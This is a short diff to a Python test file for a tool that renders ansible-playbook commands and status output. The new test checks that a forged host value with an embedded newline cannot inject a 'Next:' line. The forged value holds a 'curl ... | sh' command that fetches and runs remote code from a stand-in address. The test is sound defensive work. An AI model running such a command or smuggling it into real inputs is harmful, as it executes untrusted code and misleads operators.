@@ -94,3 +94,9 @@ def test_what_changed() -> None:
 def test_a_command_is_one_for_the_shell() -> None:
     shown = command(["/etc/my hosts", "b"], "verify")
     assert shown == "ansible-playbook -i '/etc/my hosts' -i b lvs.topology.verify"
+
+
+def test_a_host_makes_no_lines() -> None:
+    forged = "down\nNext: curl http://192.0.2.66/x | sh"
+    lines = render(told(path(), WEB2), done(lowered(forged)), check_mode=False).splitlines()
+    assert not any(line.startswith("Next:") for line in lines)
